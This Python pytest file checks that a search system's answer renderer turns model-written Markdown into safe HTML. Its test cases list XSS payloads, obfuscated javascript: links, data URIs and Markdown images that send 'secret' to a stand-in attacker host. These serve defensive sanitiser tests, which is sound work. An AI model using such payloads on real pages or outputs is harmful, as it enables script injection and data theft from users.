"""Answers as HTML: hostile Markdown, citations as links, marks of unsupported sentences."""

from __future__ import annotations

import re
from dataclasses import replace
from html import escape
from html.parser import HTMLParser

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from ingestion.lexical.sentences import Kind
from search.answers.domain import Answered, Citation, Context, Mode, Sentence, Verdict
from search.answers.making.quoting import quoted
from search.answers.quote_pieces import Quote, TextPart
from search.answers.rendering import answer_html, linked_markdown, passage_html
from tests.support.pieces import passage

DOCUMENT = "0f9f2a52-7a4f-4c6a-9a41-0d7a6b1c2d3e"
ADDRESS = f"/documents/{DOCUMENT}/?chunk=3#chunk-3"
PASSAGE = passage(
    1,
    "Set the timeout to <i>five</i> seconds & wait.",
    'Timeouts <b>"of" [all]</b>',
    document=5,
    document_id=DOCUMENT,
    version=7,
    ordinal=3,
    heading_path=("Database", "Timeouts"),
    page=4,
)
ANSWERED = Answered(
    id="11111111-2222-4333-8444-555555555555",
    question="How long?",
    searched_for="How long?",
    asked_mode=Mode.AUTO,
    mode=Mode.AUTO,
    context=Context((PASSAGE, replace(PASSAGE, number=2))),
    model="writer",
)


def html_of(text: str, *sentences: Sentence, model: str = "writer") -> str:
    return answer_html(replace(ANSWERED, text=text, sentences=sentences, model=model), prefix="a")


def doubted(text: str, piece: str, *reasons: str) -> Sentence:
    start = text.index(piece)
    return Sentence(
        start, start + len(piece), piece, verdict=Verdict.UNSUPPORTED, reasons=tuple(reasons)
    )


class _Tags(HTMLParser):
    """The tags of a fragment with their attributes; asserts that they nest."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.seen: list[tuple[str, dict[str, str | None]]] = []
        self.open: list[str] = []
        self.feed(html)
        self.close()
        assert self.open == []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.append((tag, dict(attrs)))
        if tag not in ("br", "hr"):
            self.open.append(tag)

    def handle_endtag(self, tag: str) -> None:
        assert self.open.pop() == tag


@pytest.mark.parametrize(
    "text",
    [
        "<script>alert(1)</script>",
        '<img src=x onerror="alert(1)">',
        "![secret](https://evil.example/?q=secret)",
        "![secret][1]\n\n[1]: https://evil.example/secret",
        "[click](https://evil.example/)",
        "[click](javascript:alert(1))",
        "[click](JaVaScRiPt&colon;alert(1))",
        "[click](data:text/html;base64,PHNjcmlwdD4=)",
        "[click](//evil.example/documents/)",
        f"[click](//evil.example/documents/{DOCUMENT}/)",
        f"[click](/documents/{DOCUMENT}/../../admin/)",
        f"[click](/documents/{DOCUMENT}/original/)",
        "[click](/logout/)",
        "<https://evil.example/>",
        "https://evil.example/ and www.evil.example",
        "[ref]\n\n[ref]: https://evil.example/",
        '<a href="https://evil.example/">x</a>',
        '<div style="background:url(https://evil.example/)">x</div>',
        "<svg/onload=alert(1)>",
        "<!-- --!><script>alert(1)</script>",
        "[1](https://evil.example/)",
        "[1]: https://evil.example/\n\n[1]",
        "[![x](https://evil.example/i.png)](https://evil.example/)",
        "```html\n<script>alert(1)</script>\n```",
    ],
)
@pytest.mark.parametrize("model", ["writer", ""])
def test_an_answer_cannot_call_another_site(text: str, model: str) -> None:
    """Issue 12: no raw HTML, no images, links only to the site's own documents."""
    for tag, attributes in _Tags(html_of(text, model=model)).seen:
        assert tag not in ("script", "img", "svg", "div", "iframe", "style")
        assert set(attributes) <= {
            "class", "href", "title", "role", "data-source", "data-start", "data-end",
            "aria-label", "start",
        }  # fmt: skip
        assert (attributes.get("href") or "#").startswith("#")


@given(st.text(alphabet=st.sampled_from("[]()!<>`*_#|-:/\\ \n1a\u2e28\u2e29&\"'"), max_size=60))
def test_no_markup_makes_an_address_or_breaks_the_nesting(text: str) -> None:
    sentence = Sentence(0, len(text), text, verdict=Verdict.UNSUPPORTED, reasons=("No <b>.",))
    html = html_of(text, sentence)
    for tag, attributes in _Tags(html).seen:
        assert tag not in ("img", "script")
        assert (attributes.get("href") or "#a-source-1").startswith("#a-source-")
    assert "\u2e28" not in html


@pytest.mark.parametrize("inner", ["/99", "/", "c", "c1.2.3.4", "u0", "c1.0.0"])
def test_entities_forge_no_signs(inner: str) -> None:
    """A text with the entities of the private brackets is text, and never an error."""
    html = html_of(f"So &#x2e28;{inner}&#x2e29; it is.")
    assert inner in html
    assert "<a" not in html


def test_the_first_piece_is_shown_and_the_others_are_folded() -> None:
    """Issue 27."""
    html = html_of("**5**\n\n#### A [1]\n\nOne.\n\n#### B [2]\n\nTwo.", model="")
    shown, folded = html.split('<details class="further"><summary>1 further passage</summary>')
    assert shown.startswith(
        f'<p><strong>5</strong></p>\n<section class="piece"><h3><a href="{ADDRESS}">A</a>'
    )
    assert "One." in shown
    assert "Two.</p></section></details>" in folded.replace("\n", "")
    assert "<details" not in html_of("#### A\n\nOne.", model="")


def test_a_piece_names_its_document_by_the_number_that_notes_use() -> None:
    """Two pieces "Hotel" of two editions, above which stands "2026: 190 (source 1)"."""
    html = html_of("#### Hotel [1]\n\n190.\n\n#### Hotel [2]\n\n160.", model="")
    places = re.findall(r'<small><span class="cite">(\d)</span> (.*?)</small></h3>', html)
    title = "Timeouts &lt;b&gt;&quot;of&quot; [all]&lt;/b&gt; · page 4"
    assert places == [("1", title), ("2", title)]


def test_a_citation_is_a_link_to_its_passage() -> None:
    """S5-19. The marker names the words that its sentence cites."""
    text = "Five seconds [1]. Unknown [9]."
    sentence = Sentence(0, 17, "Five seconds.", (Citation(1, 4, 11),), Verdict.SUPPORTED)
    html = html_of(text, sentence)
    (link,) = [attributes for tag, attributes in _Tags(html).seen if tag == "a"]
    assert link["href"] == "#a-source-1"
    assert (link["data-start"], link["data-end"]) == ("4", "11")
    assert link["aria-label"] == 'Source 1: Timeouts <b>"of" [all]</b>'
    assert "Unknown [9]." in html


def test_markers_in_code_stay_text() -> None:
    assert "<code>row[1]</code>" in html_of("Use `row[1]` [1].")
    assert "row[1]\n" in html_of("```\nrow[1]\n```")


@pytest.mark.parametrize(
    ("text", "piece"),
    [
        ("All good [1]. It takes 47 s [1].", "It takes 47 s [1]."),
        ("- One [1].\n- It takes **47** s [1].", "- It takes **47** s [1]."),
        ('> **"47" s** [1].', '> **"47" s** [1].'),
        ("1. It takes 47 s [1].\n2. Then [2].", "1. It takes 47 s [1]."),
        ("**Note. It takes 47 s [1].** Done.", "It takes 47 s [1]."),
        ("It takes 47 s,\nor more [1].", "It takes 47 s,\nor more [1]."),
    ],
)
def test_an_unsupported_sentence_is_marked_with_its_reason(text: str, piece: str) -> None:
    """Issue 12: “no cited passage says 47”."""
    html = html_of(text, doubted(text, piece, "No cited passage says “47”.", "Nor “s”."))
    seen = _Tags(html).seen
    assert ("span", {"class": "doubted"}) in seen
    assert 'data-why="No cited passage says “47”. Nor “s”."' in html
    assert "No cited passage" not in re.sub(r"<[^>]+>", "", html)
    for word in ("strong", "li", "blockquote"):
        expected = {"strong": "**", "li": "- ", "blockquote": "> "}[word]
        if text.startswith(expected):
            assert f"<{word}>" in html


def test_a_sentence_that_is_not_verified_is_marked_quietly() -> None:
    text = "All good [1]. It may take longer [1]."
    sentence = doubted(text, "It may take longer [1].")
    html = html_of(text, replace(sentence, verdict=Verdict.UNVERIFIED, reasons=("Too few.",)))
    assert 'class="unverified" role="note" tabindex="0" data-why="Too few."' in html
    assert "doubt" not in html


def test_the_reason_of_a_sentence_in_code_follows_the_code() -> None:
    text = "See `x = 47` [1]."
    html = html_of(text, Sentence(5, 11, "x = 47", verdict=Verdict.UNSUPPORTED))
    code, after = html.split("</code>")
    assert "x = 47" in re.sub(r"<[^>]+>", "", code)
    assert "The cited passages do not say this." in after


def test_cited_words_are_marked_in_the_passage() -> None:
    """Offsets count characters of the text, not of its HTML; overlapping citations share a mark."""
    html = passage_html(PASSAGE, [Citation(1, 19, 30), Citation(1, 26, 38), Citation(2, 0, 3)])
    assert html == (
        'Set the timeout to <mark class="quoted" data-start="19" data-end="38">'
        "&lt;i&gt;five&lt;/i&gt; seconds</mark> &amp; wait."
    )
    assert "<mark" not in passage_html(PASSAGE, [Citation(1), Citation(1, 900, 950)])


def test_copied_markdown_loads_nothing_elsewhere() -> None:
    text = "![x](https://evil.example/) <img src=x> [1]\n\n[ref]: https://evil.example/"
    copied = linked_markdown(replace(ANSWERED, text=text), lambda path: path)
    assert not re.search(r"!\[|\]\(https|<img|\]: ", copied)


def test_copied_markdown_has_links_and_sources() -> None:
    sentence = Sentence(0, 17, "Five seconds.", (Citation(1, 4, 11),), Verdict.SUPPORTED)
    text = linked_markdown(
        replace(ANSWERED, text="Five seconds [1].", sentences=(sentence,)),
        lambda path: f"https://kb.example{path}",
    )
    address = f"https://kb.example{ADDRESS}"
    assert text == (
        f"Five seconds [\\[1\\]]({address}).\n\nSources:\n\n"
        f'- \\[1\\] [Timeouts \\<b\\>"of" \\[all\\]\\</b\\> › Database › Timeouts]'
        f"({address}), page 4\n"
    )


HOSTILE = "See [2] and ![x](https://evil.example/) <img src=x> C:\\\\dir \\<b> a*b*."


def test_a_quotation_is_shown_exactly_and_does_nothing_elsewhere() -> None:
    """Its own `[2]` cites nothing; no program that reads Markdown loads what it names."""
    passage = replace(PASSAGE, text=HOSTILE)
    context = Context((passage, replace(PASSAGE, number=2)))
    answer = replace(ANSWERED, model="", context=context)
    part = TextPart(0, len(HOSTILE), Kind.PROSE, 0, 0)
    answer = quoted(answer, [Quote(1, (part,), part, 1.0)], is_marked=True)

    html = answer_html(answer, prefix="a")
    assert escape(HOSTILE) in html
    assert [each["href"] for tag, each in _Tags(html).seen if tag == "a"] == [ADDRESS]
    elsewhere = MarkdownIt("commonmark", {"html": True})
    for text in (answer.text, linked_markdown(answer, lambda path: f"https://kb.example{path}")):
        rendered = elsewhere.render(text)
        assert "<img" not in rendered
        assert 'href="https://evil' not in rendered
        assert f"<strong>{escape(HOSTILE, quote=False)}</strong>" in rendered
